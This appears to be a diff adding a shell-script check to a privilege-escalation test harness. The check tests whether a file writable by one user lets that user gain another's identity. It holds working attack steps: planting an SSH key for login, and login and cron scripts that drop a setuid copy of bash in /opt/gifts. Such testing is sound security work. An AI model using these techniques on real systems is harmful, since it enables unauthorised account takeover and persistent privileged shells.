@@ -1,0 +1,43 @@
+# plant WHAT FILE: `by` writes to FILE on hostb what opens `as`:
+#	key	a key of their own at its end, with which they then log in by ssh
+#	login	commands for a shell, which make a setuid shell once `as` logs in
+#	cron	the same as a script, which is run once as cron does, by run-parts
+# A file that is not there is made; one that cannot be written is replaced, where its folder allows it.
+
+TRY_ON[plant]=hostb
+
+try_plant() {
+	local said=''
+	"plant_$1" "$2" || true
+	[ "$said" = "$TO_UID" ] && echo shell || echo no
+}
+
+plant_key() {
+	as_client ssh-keygen -q -t ed25519 -N '' -f /tmp/planted </dev/null
+	plant_text "$1" "$(</tmp/planted.pub)"
+	said=$(as_client ssh -F none -i /tmp/planted -o BatchMode=yes -o StrictHostKeyChecking=no \
+		-o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes "$TO@127.0.0.1" 'id -u' </dev/null)
+}
+
+plant_login() {
+	plant_gift "$1"
+	su - "$TO" -c : </dev/null >/dev/null 2>&1
+	said=$(as_client /opt/gifts/sh -p -c 'id -u')
+}
+
+plant_cron() {
+	plant_gift "$1"
+	run-parts "${1%/*}" >/dev/null 2>&1
+	said=$(as_client /opt/gifts/sh -p -c 'id -u')
+}
+
+# /tmp is mounted nosuid.
+plant_gift() {
+	install -d -m 1777 /opt/gifts
+	plant_text "$1" $'#!/bin/sh\ncp /bin/bash /opt/gifts/sh; chmod 4755 /opt/gifts/sh'
+}
+
+plant_text() {
+	as_client bash -c '{ [ ! -e "$1" ] || [ -w "$1" ]; } && echo "$2" >>"$1" && exit
+		{ cat "$1"; echo "$2"; } >"$1.new" && chmod 0755 "$1.new" && mv -f "$1.new" "$1"' plant "$1" "$2"
+}
